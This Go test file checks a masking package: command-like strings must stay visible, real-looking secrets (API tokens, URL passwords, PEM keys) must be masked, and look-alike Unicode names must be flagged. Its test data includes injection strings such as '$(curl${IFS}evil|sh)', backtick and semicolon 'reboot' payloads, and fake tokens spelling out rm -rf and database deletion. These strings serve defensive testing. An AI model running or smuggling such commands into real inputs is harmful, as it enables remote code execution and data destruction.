package mask_test

import (
	"encoding/json"
	"strings"
	"testing"

	"gatehouse/core/mask"
)

// TestACardShowsWhatMightRun, though it looks like a secret; a log masks it all the same.
func TestACardShowsWhatMightRun(t *testing.T) {
	for _, text := range []string{
		"curl https://x:$(curl${IFS}evil|sh)@host",
		"curl https://x:`reboot`@host",
		"curl https://x:a;reboot@host",
		"curl https://x:%4@host",
		"sk-proj-aA1-rm_-rf_aA1-home-aA1aA1aA1aA1aA1aA1aA1aA1aA1",
		"sk-ant-api03-aA1-delete-the-database-aA1aA1aA1aA1aA1aA1aA1",
		"ghp_" + "DeleteTheProductionDatabaseNowPlease" + "",
		"glpat-aA1-rm_-rf_home-aA1a",
		"xoxb-123456789012-123456789012-" + "deleteeverythingatonce12",
		"Bearer /bin/rm1/-rf/home/aA1",
		"-----BEGIN PRIVATE KEY-----\n/sbin/halt\n-----END PRIVATE KEY-----",
	} {
		raw, _ := json.Marshal(map[string]string{"run": text})
		if shown := string(mask.Shown(raw)); strings.Contains(shown, mask.Mark) || mask.Hidden(raw) != 0 ||
			mask.About(text, raw) != text {
			t.Errorf("a card hides something in %q: %s", text, shown)
		}
		if !strings.Contains(text, "DeleteTheProduction") && !strings.Contains(mask.Text(text), mask.Mark) {
			t.Errorf("a log shows %q", text)
		}
	}
	named := json.RawMessage(`{"password":"$(curl${IFS}evil|sh)"}`)
	if shown := mask.Shown(named); string(shown) != string(named) ||
		!strings.Contains(string(mask.JSON(named)), mask.Mark) {
		t.Errorf("%s", shown)
	}
}

func TestACardMasksWhatCanOnlyBeASecret(t *testing.T) {
	for _, text := range []string{
		"https://u:hunter2@host", "https://u:p%40ss-w.o_r~d@host", slackToken, botToken, pem, jwt,
		"ghp_0123456789abcdefghij0123456789ABCDEF",
		"sk-proj-" + strings.Repeat("aB3xY9", 10) + "-" + strings.Repeat("Zq7", 10) + "_x1",
		"Bearer " + strings.Repeat("aB3", 9), "sk-" + strings.Repeat("0123456789abcdef", 2),
	} {
		raw, _ := json.Marshal(map[string]string{"run": "see " + text + " there"})
		if shown := string(mask.Shown(raw)); !strings.Contains(shown, mask.Mark) || mask.Hidden(raw) == 0 {
			t.Errorf("a card shows %q: %s", text, shown)
		}
	}
	if got := string(mask.Shown(json.RawMessage(`{"password":"a;b|c&d$e","pin":4711}`))); strings.Count(got,
		mask.Mark) != 2 {
		t.Error(got)
	}
}

func TestLookAlike(t *testing.T) {
	for name, want := range map[string]bool{
		"Ann": false, "José": false, "Łukasz Żak": false, "王芳": false, "Ann (ops) 1": false, "": false,
		"Аnn": true, "A\u200bnn": true, "Ａｎｎ": true, "𝐀nn": true, "Boᴃ ɑ": true, "Ꭺnn": true, "🅰nn": true, "Вова": true,
	} {
		if got := mask.LookAlike(name); got != want {
			t.Errorf("%q: %v", name, got)
		}
	}
}
